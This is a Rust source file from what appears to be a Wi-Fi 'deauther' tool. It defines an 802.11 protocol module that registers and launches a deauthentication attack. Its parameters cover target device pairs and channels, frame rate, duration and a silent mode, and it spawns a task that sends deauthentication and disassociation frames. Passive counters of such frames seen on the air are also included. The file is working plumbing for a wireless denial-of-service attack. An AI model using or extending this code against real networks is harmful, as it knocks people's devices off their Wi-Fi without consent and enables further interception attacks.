//! IEEE 802.11 Protocol Implementation

use async_trait::async_trait;
use deauther_core::{
    protocol::{AttackParams, Protocol, ProtocolStats},
    Attack, AttackContext, AttackDescriptor, AttackHandle, AttackId, AttackStatsCounters, Error,
    Packet, ParamDescriptor, ParameterType, ProtocolId, Result, Transmitter,
};
use parking_lot::RwLock;
use std::sync::atomic::AtomicBool;
use std::sync::Arc;
use std::time::SystemTime;
use tracing::info;

use super::attack::DeauthAttack;
use super::packet::{MgmtFrame, MgmtSubtype};

/// Passive-mode counters
#[derive(Debug, Clone, Default)]
pub struct Dot11Stats {
    pub packets_received: u64,
    pub packets_parsed: u64,
    pub parse_errors: u64,
    pub bytes_received: u64,
    pub deauth_seen: u64,
    pub disassoc_seen: u64,
}

const DEAUTH_PARAMS: [ParamDescriptor; 7] = [
    ParamDescriptor::new("targets", ParameterType::TargetList)
        .with_description("Comma separated transmitter/receiver/channel triples")
        .required(),
    ParamDescriptor::new("deauth", ParameterType::Bool)
        .with_description("Send deauthentication frames")
        .with_default("true"),
    ParamDescriptor::new("disassoc", ParameterType::Bool)
        .with_description("Send disassociation frames")
        .with_default("true"),
    ParamDescriptor::new("rate", ParameterType::U32)
        .with_description("Frames per second")
        .with_default("20"),
    ParamDescriptor::new("timeout", ParameterType::U32)
        .with_description("Stop after this many seconds, 0 = never")
        .with_default("300"),
    ParamDescriptor::new("max_packets", ParameterType::U64)
        .with_description("Stop after this many frames, 0 = unlimited")
        .with_default("0"),
    ParamDescriptor::new("silent", ParameterType::Bool)
        .with_description("Suppress summary and status reports")
        .with_default("false"),
];

static ATTACKS: [AttackDescriptor; 1] = [AttackDescriptor {
    id: AttackId(0),
    name: "Deauthentication",
    description: "Send paced deauthentication/disassociation frames to target pairs",
    parameters: &DEAUTH_PARAMS,
}];

/// IEEE 802.11 management frame protocol
pub struct Dot11Protocol {
    stats: Arc<RwLock<Dot11Stats>>,
}

impl Dot11Protocol {
    pub fn new() -> Self {
        Self {
            stats: Arc::new(RwLock::new(Dot11Stats::default())),
        }
    }
}

impl Default for Dot11Protocol {
    fn default() -> Self {
        Self::new()
    }
}

#[async_trait]
impl Protocol for Dot11Protocol {
    fn name(&self) -> &'static str {
        "IEEE 802.11 Management"
    }

    fn shortname(&self) -> &'static str {
        "dot11"
    }

    fn id(&self) -> ProtocolId {
        ProtocolId::DOT11
    }

    fn attacks(&self) -> &[AttackDescriptor] {
        &ATTACKS
    }

    fn handle_packet(&mut self, packet: &Packet) -> Result<()> {
        let frame = packet.frame();
        let mut stats = self.stats.write();
        stats.packets_received += 1;
        stats.bytes_received += frame.len() as u64;

        match MgmtFrame::parse(frame) {
            Ok(mgmt) => {
                stats.packets_parsed += 1;
                match mgmt.subtype() {
                    Some(MgmtSubtype::Deauth) => stats.deauth_seen += 1,
                    Some(MgmtSubtype::Disassoc) => stats.disassoc_seen += 1,
                    None => {}
                }
            }
            Err(_) => stats.parse_errors += 1,
        }

        Ok(())
    }

    async fn launch_attack(
        &self,
        attack_id: AttackId,
        params: AttackParams,
        transmitter: Box<dyn Transmitter>,
    ) -> Result<AttackHandle> {
        let attack = match attack_id.0 {
            0 => DeauthAttack::from_params(&params)?,
            _ => return Err(Error::InvalidAttackId(attack_id.0)),
        };

        info!(
            targets = attack.target_count(),
            rate = attack.config().rate,
            mode = attack.config().mode_name(),
            "Launching deauthentication attack"
        );

        let running = Arc::new(AtomicBool::new(true));
        let stats = Arc::new(AttackStatsCounters::default());

        let ctx = AttackContext {
            transmitter,
            running: running.clone(),
            stats: stats.clone(),
        };

        let task_handle = tokio::spawn(async move { attack.execute(ctx).await });

        Ok(AttackHandle {
            id: uuid::Uuid::now_v7(),
            protocol: "802.11".to_string(),
            attack_name: "Deauthentication".to_string(),
            running,
            stats,
            started_at: SystemTime::now(),
            task_handle: Some(task_handle),
        })
    }

    fn stats(&self) -> ProtocolStats {
        let stats = self.stats.read();
        let mut proto_stats = ProtocolStats {
            packets_received: stats.packets_received,
            packets_parsed: stats.packets_parsed,
            packets_errors: stats.parse_errors,
            bytes_received: stats.bytes_received,
            ..Default::default()
        };

        proto_stats
            .custom
            .insert("deauth_seen".to_string(), stats.deauth_seen);
        proto_stats
            .custom
            .insert("disassoc_seen".to_string(), stats.disassoc_seen);

        proto_stats
    }

    fn reset_stats(&mut self) {
        *self.stats.write() = Dot11Stats::default();
    }
}
